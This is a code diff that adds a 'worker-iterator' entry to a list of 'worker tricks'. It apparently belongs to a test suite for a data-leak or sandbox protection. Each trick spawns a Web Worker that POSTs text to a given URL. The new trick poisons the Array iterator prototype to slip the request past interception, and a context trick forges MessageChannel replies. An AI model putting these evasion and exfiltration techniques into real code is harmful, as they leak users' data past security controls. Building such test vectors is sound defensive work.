@@ -76,6 +76,13 @@ export const WORKER_TRICKS: readonly Vector[] = [
     },
   },
   {
+    name: "worker-iterator",
+    run: (text, url) => {
+      const code = `const [url, body] = ${JSON.stringify([url, text])}; const iterate = Array.prototype[Symbol.iterator]; Array.prototype[Symbol.iterator] = function () { return iterate.call(this[0] === "POST" ? ["GET", url, ""] : this); }; fetch(url, { method: "POST", body });`;
+      return new Worker(URL.createObjectURL(new Blob([code])));
+    },
+  },
+  {
     name: "worker-forged-message",
     run: (text, url) => {
       const code = `const [url, body] = ${JSON.stringify([url, text])}; const { port1, port2 } = new MessageChannel(); port2.onmessage = ({ data }) => port2.postMessage([data[0], true]); dispatchEvent(new MessageEvent("message", { ports: [port1] })); fetch(url, { method: "POST", body });`;
